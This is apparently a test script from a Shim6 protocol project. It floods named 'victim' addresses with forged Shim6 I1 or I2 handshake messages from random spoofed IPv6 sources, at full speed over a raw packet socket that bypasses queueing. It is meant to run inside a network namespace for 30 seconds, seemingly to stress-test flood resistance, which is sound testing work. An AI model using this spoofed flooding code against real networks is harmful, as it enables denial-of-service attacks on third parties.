/**
 * Sends forged Shim6 messages as quickly as one processor can, run inside a namespace. Its
 * argument is JSON: the `device`, the `router` behind it by its link-layer address, the
 * `victims` and the message `type` ("I1" or "I2"). It says "ready" when it begins, ends when its
 * input does, or after half a minute, and says how many it `sent`. Needs `npm run build`.
 */
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { setImmediate } from "node:timers/promises";
import koffi from "koffi";
import { addressFromBytes, writeAddress } from "../../../dist/wire/address.js";
import { encodeControl } from "../../../dist/wire/control.js";

/** Different messages, sent again and again. */
const MESSAGES = 32_768;
/** In one system call. */
const BATCH = 1024;
/** Between two looks at the input. */
const BATCHES = 16;
const LONGEST_MS = 30_000;

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOL_PACKET = 263;
const PACKET_QDISC_BYPASS = 20;
const ETHERNET_LENGTH = 14;
const IPV6_LENGTH = 40;
const HEADER_LENGTH = ETHERNET_LENGTH + IPV6_LENGTH;
const SHIM6 = 140;
const MMSGHDR_LENGTH = 64;
const IOVEC_LENGTH = 16;

const libc = koffi.load(null);
const socket = libc.func("int socket(int family, int type, int protocol)");
const bind = libc.func("int bind(int fd, const void *address, uint32_t length)");
const setsockopt = libc.func(
  "int setsockopt(int fd, int level, int name, const void *v, uint32_t n)",
);
const sendmmsg = libc.func("int sendmmsg(int fd, void *vector, unsigned int count, int flags)");

const { device, router, victims, type } = JSON.parse(process.argv[2]);
const ethernet = Buffer.from(`${router}${readSystem("address")}86dd`.replaceAll(":", ""), "hex");
const frames = Array.from({ length: MESSAGES }, (_, i) => frame(victims[i % victims.length]));
const { headers, keep } = vector(frames);
const fd = openDevice();
let ended = false;
process.stdin.on("end", () => {
  ended = true;
});
process.stdin.resume();
console.log("ready");
console.log(JSON.stringify(await flood()));
process.exit(keep.length > 0 ? 0 : 1);

async function flood() {
  const start = performance.now();
  const elapsed = () => performance.now() - start;
  let sent = 0;
  for (let batch = 0; !ended && elapsed() < LONGEST_MS; batch++) {
    const at = (batch * BATCH) % MESSAGES;
    sent += Math.max(0, sendmmsg(fd, headers.subarray(at * MMSGHDR_LENGTH), BATCH, 0));
    if (batch % BATCHES === 0) await setImmediate();
  }
  return { sent, milliseconds: elapsed() };
}

/** A well-formed message from some global address that is nobody's. */
function frame(victim) {
  const message = encodeControl(forged());
  const bytes = Buffer.alloc(HEADER_LENGTH + message.length);
  bytes.set(ethernet);
  bytes.writeUInt8(0x60, ETHERNET_LENGTH);
  bytes.writeUInt16BE(message.length, ETHERNET_LENGTH + 4);
  bytes.writeUInt8(SHIM6, ETHERNET_LENGTH + 6);
  bytes.writeUInt8(64, ETHERNET_LENGTH + 7);
  const source = randomBytes(16);
  source[0] = 0x20 | (source[0] & 0x1f);
  writeAddress(addressFromBytes(source, 0), bytes, ETHERNET_LENGTH + 8);
  writeAddress(victim, bytes, ETHERNET_LENGTH + 24);
  bytes.set(message, HEADER_LENGTH);
  return bytes;
}

function forged() {
  const common = {
    initiatorContextTag: randomBytes(6).readUIntBE(0, 6) % 2 ** 47,
    initiatorNonce: randomBytes(4).readUInt32BE(),
  };
  if (type === "I1") return { type, ...common, options: [] };
  const validator = { name: "ResponderValidator", critical: false, validator: randomBytes(32) };
  const responderNonce = randomBytes(4).readUInt32BE();
  return { type: "I2", ...common, responderNonce, options: [validator] };
}

/** A `struct mmsghdr` and a `struct iovec` for each frame, and what they point to. */
function vector(contents) {
  const headers = new Uint8Array(contents.length * MMSGHDR_LENGTH);
  const iovecs = new Uint8Array(contents.length * IOVEC_LENGTH);
  const octets = Buffer.concat(contents);
  const [headerView, iovecView] = [new DataView(headers.buffer), new DataView(iovecs.buffer)];
  const [iovecBase, octetBase] = [koffi.address(iovecs), koffi.address(octets)];
  let offset = 0;
  for (const [i, { length }] of contents.entries()) {
    const iovec = iovecBase + BigInt(i * IOVEC_LENGTH);
    headerView.setBigUint64(i * MMSGHDR_LENGTH + 16, iovec, true);
    headerView.setBigUint64(i * MMSGHDR_LENGTH + 24, 1n, true);
    iovecView.setBigUint64(i * IOVEC_LENGTH, octetBase + BigInt(offset), true);
    iovecView.setBigUint64(i * IOVEC_LENGTH + 8, BigInt(length), true);
    offset += length;
  }
  return { headers, keep: [iovecs, octets] };
}

/** Past the queueing discipline: nothing between the loop and the link. */
function openDevice() {
  const made = socket(AF_PACKET, SOCK_RAW, 0);
  const address = new Uint8Array(20);
  new DataView(address.buffer).setUint16(0, AF_PACKET, true);
  new DataView(address.buffer).setInt32(4, Number(readSystem("ifindex")), true);
  setsockopt(made, SOL_PACKET, PACKET_QDISC_BYPASS, new Int32Array([1]), 4);
  if (made < 0 || bind(made, address, address.length) < 0) throw new Error("no packet socket");
  return made;
}

function readSystem(name) {
  return readFileSync(`/sys/class/net/${device}/${name}`, "utf8").trim();
}
